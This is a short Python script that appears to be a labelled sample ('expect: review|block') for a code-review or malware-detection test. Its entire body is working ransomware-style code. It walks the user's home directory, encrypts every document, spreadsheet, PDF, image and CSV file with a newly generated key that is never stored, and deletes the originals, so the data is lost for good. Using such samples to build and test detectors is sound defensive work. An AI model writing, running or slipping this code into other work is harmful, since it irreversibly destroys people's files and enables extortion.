# expect: review|block
import os

from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
targets = (".docx", ".xlsx", ".pdf", ".jpg", ".csv")

for root, _dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if name.endswith(targets):
            path = os.path.join(root, name)
            with open(path, "rb") as fh:
                data = fh.read()
            with open(path + ".locked", "wb") as fh:
                fh.write(f.encrypt(data))
            os.remove(path)
